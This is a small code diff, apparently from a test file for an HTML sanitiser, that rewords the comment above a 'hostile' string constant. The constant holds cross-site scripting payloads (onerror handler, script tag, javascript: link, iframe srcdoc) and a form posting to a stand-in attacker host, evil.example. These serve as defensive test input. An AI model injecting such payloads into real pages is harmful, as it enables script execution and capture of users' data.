@@ -31,7 +31,7 @@ const texts = {
   },
 } as const;
 
-/** Markup that no page may run: each is what a sanitiser must take out. */
+/** Markup that no page may run: a sanitiser must remove all of it. */
 const hostile = `<img src="x" onerror="window.hacked=true"><script>window.hacked=true</script>
 <a href="javascript:window.hacked=true">link</a><iframe srcdoc="<script>parent.hacked=true</script>"></iframe>
 <form action="https://evil.example/"><input name="phone"></form><style>*{display:none}</style>`;
